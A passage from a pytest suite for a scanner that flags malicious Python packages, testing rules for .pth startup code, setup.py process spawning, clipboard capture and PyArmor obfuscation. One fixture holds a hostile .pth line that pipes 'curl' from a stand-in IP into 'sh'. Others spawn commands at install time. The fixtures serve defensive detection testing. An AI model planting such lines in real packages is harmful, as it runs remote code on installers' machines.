    assert source.count(rule_id) >= 2, f"{TESTED_WITH_AN_INDEX[rule_id]} should show {rule_id} raised and not raised"


def test_cases_name_existing_rules() -> None:
    named = {case.rule for case in POSITIVE.values()} | {case.rule for case in NEGATIVE.values()}
    assert named <= set(RULES_BY_ID), f"cases for rules that no longer exist: {sorted(named - set(RULES_BY_ID))}"
    for case_id, case in [*POSITIVE.items(), *NEGATIVE.items()]:
        assert case_id.split("/")[0] == case.rule, f"case {case_id!r} is filed under the wrong rule"


@pytest.mark.parametrize("case_id", sorted(POSITIVE))
def test_positive(case_id: str) -> None:
    case = POSITIVE[case_id]
    result = scan(case.build())
    assert result.error is None, result.error
    found = findings_of(result, case.rule)
    located = [f for f in found if f.path == case.path and f.line == case.line]
    assert located, (
        f"no {case.rule} at {case.path}:{case.line}; got {[(f.path, f.line, f.severity.label) for f in found]} among {sorted(rule_ids(result))}"
    )
    assert located[0].severity is case.severity, (
        f"{case.rule} at {case.path}:{case.line} is {located[0].severity.label}"
    )
    assert located[0].when == case.when
    assert located[0].message


@pytest.mark.parametrize("case_id", sorted(NEGATIVE))
def test_negative(case_id: str) -> None:
    case = NEGATIVE[case_id]
    result = scan(case.build())
    assert result.error is None, result.error
    assert not findings_of(result, case.rule), [f.to_json() for f in findings_of(result, case.rule)]


@pytest.mark.parametrize("case_id", sorted(POSITIVE))
def test_positive_severity_is_one_the_rule_declares(case_id: str) -> None:
    case = POSITIVE[case_id]
    assert case.severity in RULES_BY_ID[case.rule].severities


# -- pairs the design singles out ---------------------------------------------------------------


def test_namespace_package_pth_is_info_and_the_same_line_with_a_payload_is_malicious() -> None:
    benign = scan_wheel({"zope.interface-5.0-nspkg.pth": NSPKG + "\n"})
    assert [(f.rule, f.severity) for f in benign.findings] == [("startup-pth-exec", I)]
    assert "namespace-package" in benign.findings[0].message
    assert benign.verdict is Verdict.CLEAN

    hostile = scan_wheel(
        {"zope.interface-5.0-nspkg.pth": NSPKG + "; import os; os.system('curl -s http://198.51.100.7/p | sh')\n"}
    )
    pth = findings_of(hostile, "startup-pth-exec")
    assert [(f.severity, f.line) for f in pth] == [(H, 1)]
    assert (C, 1) in [(f.severity, f.line) for f in findings_of(hostile, "process-spawn")]
    assert hostile.verdict is Verdict.MALICIOUS


def test_pth_importing_a_shipped_module_analyses_that_module_as_startup_code() -> None:
    result = scan_wheel(
        {"litellm_init.pth": "import litellm_hook\n", "litellm_hook.py": "import os\nos.system('id')\n"}
    )
    assert [(f.severity, f.when) for f in findings_of(result, "process-spawn") if f.path == "litellm_hook.py"] == [
        (C, "startup")
    ]
    assert result.verdict is Verdict.MALICIOUS


def test_same_subprocess_call_is_clean_in_a_function_and_high_in_setup_py() -> None:
    source = """
        import subprocess
        def build():
            subprocess.run(["./configure-and-run"])
    """
    library = scan_wheel({"pkg/build.py": source})
    assert library.verdict is Verdict.CLEAN and not library.findings
    install = scan_sdist({"setup.py": source})
    assert [(f.rule, f.severity, f.line) for f in install.findings] == [("process-spawn", H, 3)]


def test_build_tools_in_setup_py_are_info_only() -> None:
    result = scan_sdist(
        {
            "setup.py": """
        import subprocess
        from setuptools import setup
        subprocess.check_call(["cmake", "--build", "."])
        setup(name="demo")
    """
        }
    )
    assert [(f.rule, f.severity, f.line) for f in result.findings] == [("process-spawn", I, 3)]
    assert result.verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    "call",
    [
        'subprocess.check_call(["cmake", "-S", "src", "-B", "build"] + CMAKE_ARGS)',
        'cmake_cmd = shutil.which("cmake")\nsubprocess.check_call([cmake_cmd, "--build", "."])',
        'subprocess.check_output(["mecab-config", "--libs"])',
    ],
    ids=["list-plus-arguments", "found-with-which", "config-program"],
)
def test_build_tools_named_in_other_ways_are_info_only(call: str) -> None:
    # dm-tree, pycares and mecab-python3 build so.
    source = "import shutil\nimport subprocess\nfrom setuptools import setup\n" + call + "\nsetup(name='demo')\n"
    result = scan_sdist({"setup.py": source})
    assert [(f.rule, f.severity) for f in result.findings] == [("process-spawn", I)]
    assert result.verdict is Verdict.CLEAN


def test_a_package_run_as_a_program_may_copy_to_the_clipboard() -> None:
    # pyperclip's __main__.py: `python -m pyperclip -c` copies stdin at its top level. Medium, clean.
    result = scan_wheel(
        {
            "pkg/__init__.py": "",
            "pkg/__main__.py": """
        import sys
        import pyperclip
        if sys.argv[1:] == ["-c"]:
            pyperclip.copy(sys.stdin.read())
        elif sys.argv[1:] == ["-p"]:
            sys.stdout.write(pyperclip.paste())
    """,
        }
    )
    assert {f.severity for f in findings_of(result, "input-capture")} == {M}
    assert result.verdict is Verdict.CLEAN


def test_setup_cfg_aliases_keep_every_command_of_setup_py_install_time() -> None:
    # `[aliases]` can make `bdist_wheel` run `publish` too: then nothing of setup.py is set aside.
    setup_py = """
        import os
        from setuptools import Command, setup

        class PublishCommand(Command):
            def run(self):
                os.system("payload --now")

        setup(name="demo", cmdclass={"publish": PublishCommand})
    """
    assert not scan_sdist({"setup.py": setup_py}).findings
    aliased = scan_sdist({"setup.py": setup_py, "setup.cfg": "[aliases]\nbdist_wheel = publish bdist_wheel\n"})
    assert [(f.rule, f.severity, f.line) for f in aliased.findings] == [("process-spawn", H, 6)]


def test_release_command_named_anywhere_else_stays_install_time() -> None:
    result = scan_sdist(
        {
            "setup.py": """
        import os
        from setuptools import Command, setup

        class PublishCommand(Command):
            def run(self):
                os.system("payload --now")

        PublishCommand(None).run()
        setup(name="demo", cmdclass={"publish": PublishCommand})
    """
        }
    )
    assert [(f.rule, f.severity, f.line) for f in result.findings] == [("process-spawn", H, 6)]


def test_duplicate_member_analyses_the_copy_that_is_installed() -> None:
    result = scan(_zip_duplicate("pkg/__init__.py", "pkg/__init__.py"))
    assert [(f.path, f.line, f.severity) for f in findings_of(result, "process-spawn")] == [("pkg/__init__.py", 2, L)]


def test_process_spawn_declares_every_severity_it_reports() -> None:
    result = scan_sdist(
        {
            "setup.py": """
        import subprocess
        from setuptools import setup
        subprocess.check_call(["cmake", "--build", "."])
        subprocess.check_call(COMMAND)
        setup(name="demo")
    """
        }
    )
    reported = {f.severity for f in findings_of(result, "process-spawn")}
    assert reported == {I, M}
    assert reported <= set(RULES_BY_ID["process-spawn"].severities)


def test_obfuscated_code_declares_the_pyarmor_severity() -> None:
    result = scan_wheel({"pkg/__init__.py": "from pytransform import pyarmor_runtime\npyarmor_runtime()\n"})
    reported = {f.severity for f in findings_of(result, "obfuscated-code")}
    assert reported == {H}
    assert reported <= set(RULES_BY_ID["obfuscated-code"].severities)


@pytest.mark.parametrize(
    "source",
    [
        "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'PYARMOR\\x00\\x00\\x03')\n",
        "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03')\n",
    ],
    ids=["pyarmor-7", "pyarmor-8"],
)
def test_pyarmor_protected_module_is_recognised(source: str) -> None:
    result = scan_wheel({"pkg/__init__.py": source})
    assert [(f.severity, f.line) for f in findings_of(result, "obfuscated-code")] == [(H, 1)]
